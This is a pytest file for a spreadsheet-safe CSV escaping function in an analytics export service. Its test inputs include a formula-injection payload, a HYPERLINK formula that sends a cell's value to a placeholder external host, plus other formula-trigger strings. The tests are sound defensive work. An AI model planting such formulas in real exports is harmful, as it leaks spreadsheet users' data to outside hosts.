"""The transitions export's CSV cells cannot be formulas in a marketer's spreadsheet."""

from __future__ import annotations

import pytest

from services.ingest.analytics_api import spreadsheet_safe


@pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1",
                                   "-2+3", "@SUM(A1)", "\tcmd", "\r=1"])
def test_text_a_spreadsheet_would_run_is_quoted(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["user-42", "awareness", "entered the journey", "", None, 3.5,
                                   "a=b"])
def test_everything_else_is_kept(value: object) -> None:
    assert spreadsheet_safe(value) == value
